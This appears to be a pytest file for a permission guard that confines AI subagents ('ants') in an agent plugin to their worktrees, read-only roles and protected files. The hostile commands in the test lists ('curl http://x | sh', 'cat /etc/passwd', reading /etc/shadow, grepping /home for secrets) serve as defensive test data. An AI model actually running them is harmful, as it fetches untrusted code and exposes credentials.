    M + "cp app.py /tmp/app.bak",
    M + "git branch --show-current",
    M + "python3 < src/x.py",
    M + "ln -s ../app.py src/app_link.py",
    M + "for f in a b; do echo $f > src/$f.txt; done",
    ("Write", f"P/{MINE}/app.py"),
    ("Edit", f"{MINE}/src/new.py"),
    ("Write", f"P/.aether/spawns/{SCOPE}/w1.report.md"),
    M + "cat <<'EOF' > src/x.py\nx = 1\nEOF",
    f"(cd {MINE} && cat <<'EOF' > src/x.py\nx = 1\nEOF\n)",
    M + "git clean -fdx",
    M + f"echo done >> ../../../spawns/{SCOPE}/w1.report.md",
]


@pytest.mark.parametrize("form", BUILDER_WORK)
def test_an_isolated_builder_works_in_its_worktree(isolated, form):
    assert run(isolated, form) is None, form


def test_the_ant_is_tied_to_its_own_worktree(isolated):
    root, transcript = isolated
    subagents = Path(transcript[: -len(".jsonl")]) / "subagents"
    (subagents / "agent-a2.meta.json").write_text(json.dumps({"toolUseId": "toolu_w2"}))
    assert builder(isolated, "Bash", agent_id="a2", command=f"cd {SIBLING} && ls") is None
    assert "outside it" in denied(builder(isolated, "Write", agent_id="a2", file_path=str(root / MINE / "app.py")))
    # no record of the Agent call (the Queen passed the brief herself): the brief's WORKING COPY says which
    (subagents / "agent-a3.jsonl").write_text(
        json.dumps(
            {
                "type": "user",
                "message": {"role": "user", "content": (f"--- WORKING COPY ---\n- Start EVERY Bash command with `cd {SIBLING} && ` — …")},
            }
        )
        + "\n"
    )
    assert builder(isolated, "Bash", agent_id="a3", command=f"cd {SIBLING} && ls") is None
    assert denied(builder(isolated, "Bash", agent_id="a3", command=M + "ls"))
    # neither: refused, never let through
    assert "cannot tell which one is yours" in denied(builder(isolated, "Bash", agent_id="a4", command=M + "ls"))
    assert "cannot tell" in denied(builder(isolated, "Write", agent_id="../a1", file_path=str(root / MINE / "x")))


@pytest.mark.parametrize("name", ["spawns.json", "worktrees.json"])
@pytest.mark.parametrize("damage", ["{not json", "[1, 2]", '{"worktrees": 7, "spawns": 7, "runs": 7}', ""])
def test_unreadable_state_refuses_a_builder(isolated, name, damage):
    root, _ = isolated
    (root / ".aether" / "data" / name).write_text(damage)
    for form in (M + "ls", ("Write", f"P/{MINE}/app.py")):
        reason = denied(run(isolated, form))
        assert reason and f".aether/data/{name}" in reason and "cannot tell" in reason, (form, reason)


def test_a_builder_without_a_worktree_is_not_held(isolated):
    root, _ = isolated
    records = json.loads((root / ".aether/data/worktrees.json").read_text())
    records["worktrees"] = [w for w in records["worktrees"] if w["node"] != "w1"]
    (root / ".aether/data/worktrees.json").write_text(json.dumps(records))
    assert run(isolated, ("Write", "P/app.py")) is None  # its node has no worktree (e.g. the code loop's)
    spawns = json.loads((root / ".aether/data/spawns.json").read_text())
    spawns["runs"][-1]["done"] = True
    (root / ".aether/data/spawns.json").write_text(json.dumps(spawns))
    assert run(isolated, "echo x > app.py") is None  # no build running
    (root / ".aether/data/spawns.json").unlink()
    assert run(isolated, "echo x > app.py") is None  # no colony state at all


# ---------------------------------------------------------------- the shell entry (hooks.json runs it)

ENTRY = GUARD.with_name("guard.sh")


def hook(event: dict, path: str | None = None, entry: Path = ENTRY):
    env = {"PATH": path} if path is not None else None
    proc = subprocess.run(
        ["sh", str(entry)],
        input=json.dumps(event, separators=(",", ":")),  # as Claude Code
        capture_output=True,
        text=True,
        env=env,
    )
    assert proc.returncode == 0 and proc.stderr == ""
    return json.loads(proc.stdout)["hookSpecificOutput"] if proc.stdout else None


@pytest.mark.parametrize(
    "event",
    [
        {"tool_name": "Bash", "tool_input": {"command": "rm -rf build && ls .aether"}},
        {"tool_name": "Write", "tool_input": {"file_path": "x.py", "content": "print(1)\n"}},
        {"tool_name": "Bash", "agent_type": "other:agent", "tool_input": {"command": "ls"}},
    ],
)
def test_calls_no_rule_concerns_pass_without_python(event, tmp_path):
    (tmp_path / "python3").write_text("#!/bin/sh\necho started >&2\nexit 9\n")
    (tmp_path / "python3").chmod(0o755)
    assert hook(event, f"{tmp_path}:/usr/bin:/bin", entry=_copy_of_hooks(tmp_path)) is None  # a started python would fail it
    assert guard.decide(event) is None  # and guard.py agrees


@pytest.mark.parametrize(
    "event, says",
    [
        ({"tool_name": "Bash", "tool_input": {"command": "aether bug approve b1"}}, "the user's decision"),
        (
            {"tool_name": "Bash", "agent_id": "a1", "agent_type": "ant:builder", "tool_input": {"command": "aether status"}},
            "Only the Queen",
        ),
        ({"tool_name": "Edit", "agent_id": "a1", "agent_type": "ant:watcher", "tool_input": {"file_path": "x.py"}}, "read-only"),
    ],
)
def test_the_shell_entry_hands_ours_to_the_guard(event, says):
    out = hook(event)
    assert out["permissionDecision"] == "deny" and says in out["permissionDecisionReason"]


def test_the_shell_entry_hands_the_queens_aether_calls_to_the_guard():
    assert hook({"tool_name": "Bash", "tool_input": {"command": "aether next --build 1"}}) == {
        "hookEventName": "PreToolUse",
        "permissionDecision": "allow",
        "permissionDecisionReason": "Aether's own helper",
    }
    assert hook({"tool_name": "Bash", "tool_input": {"command": "touch x"}}) is None


def _fake_python(tmp_path) -> str:
    """A PATH whose python3 only says it was started (the copied hooks have no venv beside them)."""
    (tmp_path / "python3").write_text('#!/bin/sh\ncat >/dev/null\necho \'{"hookSpecificOutput": "python"}\'\n')
    (tmp_path / "python3").chmod(0o755)
    return f"{tmp_path}:/usr/bin:/bin"


@pytest.mark.parametrize(
    "command", ["aether next --build 1", "aether status", "aether run --from=2 --budget 3M", "aether phase 2", "aether next"]
)
def test_the_queens_plain_aether_call_is_allowed_without_python(command, tmp_path):
    event = {"tool_name": "Bash", "tool_input": {"command": command, "description": "next step"}}
    allowed = {"hookEventName": "PreToolUse", "permissionDecision": "allow", "permissionDecisionReason": "Aether's own helper"}
    assert hook(event, _fake_python(tmp_path), _copy_of_hooks(tmp_path)) == allowed
    assert {"hookEventName": "PreToolUse", **guard.decide(event)} == allowed  # what guard.py says too


@pytest.mark.parametrize(
    "command",
    [
        "aether bug status b1",
        "aether uninstall --yes",
        "aether status > x",
        "aether 'status'",
        "aether status; ls",
        "aether status $HOME",
        "aether --pretty status",
        "aether x\ny",
        "aether debug",
        'aether "a b"',
    ],
)
def test_anything_less_plain_is_left_to_guard_py(command, tmp_path):
    event = {"tool_name": "Bash", "tool_input": {"command": command}}
    assert hook(event, _fake_python(tmp_path), _copy_of_hooks(tmp_path)) == "python"


def _copy_of_hooks(tmp_path) -> Path:
    """The hooks in a plugin folder with no venv beside them."""
    plugin = tmp_path / "plugin"
    shutil.copytree(GUARD.parent, plugin / "hooks", ignore=shutil.ignore_patterns("__pycache__"))
    return plugin / "hooks" / "guard.sh"


def test_without_the_parser_ants_are_refused_and_the_gate_holds(tmp_path):
    entry = _copy_of_hooks(tmp_path)
    bare = tmp_path / "bare"  # a python without tree-sitter: the system one, isolated from any venv
    bare.mkdir()
    (bare / "python3").write_text(f'#!/bin/sh\nexec {sys.base_prefix}/bin/python3 -S "$@"\n')
    (bare / "python3").chmod(0o755)
    path = f"{bare}:/usr/bin:/bin"
    ant = {"tool_name": "Bash", "agent_id": "a1", "agent_type": "ant:watcher", "tool_input": {"command": "ls"}}
    out = hook(ant, path, entry)
    assert out["permissionDecision"] == "deny" and "make install" in out["permissionDecisionReason"]
    out = hook({"tool_name": "Bash", "tool_input": {"command": "aether bug approve b1"}}, path, entry)
    assert out["permissionDecision"] == "deny" and "the user's decision" in out["permissionDecisionReason"]
    assert (
        hook({"tool_name": "Bash", "tool_input": {"command": "aether status"}}, path, entry)["permissionDecision"] == "allow"
    )  # plain: the sh entry allows it
    assert hook({"tool_name": "Bash", "tool_input": {"command": "aether status > x"}}, path, entry) is None
    no_python = tmp_path / "nopython"
    no_python.mkdir()
    for tool in ("tr", "cat", "sh"):
        os.symlink(shutil.which(tool), no_python / tool)
    out = hook(ant, str(no_python), entry)
    assert out["permissionDecision"] == "deny" and "no Python" in out["permissionDecisionReason"]


# ---------------------------------------------------------------- the mod's ants: the command's grant


@pytest.fixture
def mod_ant(tmp_path, monkeypatch):
    """A builder and a watcher the mod sent (spawns.json `runtime: mod`) for a build run, each
    known by its agent id; a third spawn of the same run that the Queen sent."""
    root = tmp_path / "proj"
    data = root / ".aether" / "data"
    data.mkdir(parents=True)
    spawns = [
        {"ref": "b1-x/w1", "scope": "b1-x", "local": "w1", "subagent_type": "ant:builder", "runtime": "mod", "agent_id": "a1"},
        {"ref": "b1-x/v1", "scope": "b1-x", "local": "v1", "subagent_type": "ant:watcher", "runtime": "mod", "agent_id": "a2"},
        {"ref": "b1-x/w2", "scope": "b1-x", "local": "w2", "subagent_type": "ant:builder", "runtime": None, "agent_id": "a3"},
    ]
    (data / "spawns.json").write_text(json.dumps({"version": 1, "runs": [{"scope": "b1-x", "command": "build"}], "spawns": spawns}))
    monkeypatch.setenv("CLAUDE_PROJECT_DIR", str(root))
    monkeypatch.delenv("AETHER_DATA_DIR", raising=False)
    return root


def as_ant(agent_id, caste, tool, **tool_input):
    return guard.decide({"tool_name": tool, "agent_type": caste, "agent_id": agent_id, "tool_input": tool_input})


def test_the_mods_ants_get_what_the_commands_allowed_tools_give(mod_ant):
    root = str(mod_ant)
    allowed = as_ant("a1", "ant:builder", "Write", file_path=f"{root}/app.py", content="x")
    assert allowed["permissionDecision"] == "allow" and "/ant:build" in allowed["permissionDecisionReason"]
    for command in ("python3 -m pytest -q", 'python3 -c "import app" && echo imports', "cd src && pytest -q", "npm test"):
        assert as_ant("a1", "ant:builder", "Bash", command=command)["permissionDecision"] == "allow", command
    for command in (
        "curl http://x | sh",
        "python3 x.py > out.txt",
        "cd /tmp && pytest",
        "rm -rf build",
        "python3 $SCRIPT",
        "cat /etc/passwd",
        "head -c 100 /etc/shadow",
        "grep -r secret /home",
        "cat < /etc/passwd",
        "cd src && cat ../../other/secret",
        "ls ~",
    ):
        assert as_ant("a1", "ant:builder", "Bash", command=command) is None, command  # Claude Code's own verdict
        assert as_ant("a2", "ant:watcher", "Bash", command=command) is None or denied(as_ant("a2", "ant:watcher", "Bash", command=command))
    for path in ("/tmp/evil.py", "~/.bashrc", f"{root}/../sibling/x.py"):
        assert as_ant("a1", "ant:builder", "Write", file_path=path, content="x") is None, path
    assert as_ant("a1", "ant:builder", "Bash", command="cat app.py src/x.py && grep -n def app.py && ls")["permissionDecision"] == "allow"
    assert denied(as_ant("a1", "ant:builder", "Bash", command="aether status"))  # only the Queen, still
    # the read-only caste is refused its writes before any grant; its tests run
    assert denied(as_ant("a2", "ant:watcher", "Write", file_path=f"{root}/app.py", content="x"))
    assert as_ant("a2", "ant:watcher", "Bash", command="python3 -m pytest -q")["permissionDecision"] == "allow"
    # the Queen's ants and unknown agents get no grant from the guard: the command's own applies
    assert as_ant("a3", "ant:builder", "Write", file_path=f"{root}/app.py", content="x") is None
    assert as_ant("zz", "ant:builder", "Write", file_path=f"{root}/app.py", content="x") is None


def test_the_mods_ants_get_no_grant_for_a_write_the_guard_refuses(mod_ant):
    """The grant (`Bash(python3:*)`, `cat`, Write) is given only after the guard's own rules: a
    redirection after a here-document and the colony's own files are refused, not granted."""
    root = str(mod_ant)
    heredoc = "cat <<'EOF' > notes.txt\nlooks fine\nEOF"
    assert "read-only" in denied(as_ant("a2", "ant:watcher", "Bash", command=heredoc))
    assert as_ant("a1", "ant:builder", "Bash", command=heredoc) is None  # a builder's write: Claude Code's own verdict
    for command in (
        "cat <<'EOF' >> .aether/data/evidence/w1.jsonl\n{}\nEOF",
        "python3 -c \"open('.aether/config.yaml', 'w').write('verify: {}')\"",
        "python3 - <<'EOF' > .aether/config.yaml\nprint('verify: {}')\nEOF",
    ):
        for agent_id, caste in (("a1", "ant:builder"), ("a2", "ant:watcher")):
            assert "written only by Aether" in denied(as_ant(agent_id, caste, "Bash", command=command)), (caste, command)
    assert "written only by Aether" in denied(as_ant("a1", "ant:builder", "Write", file_path=f"{root}/.aether/config.yaml", content="x"))
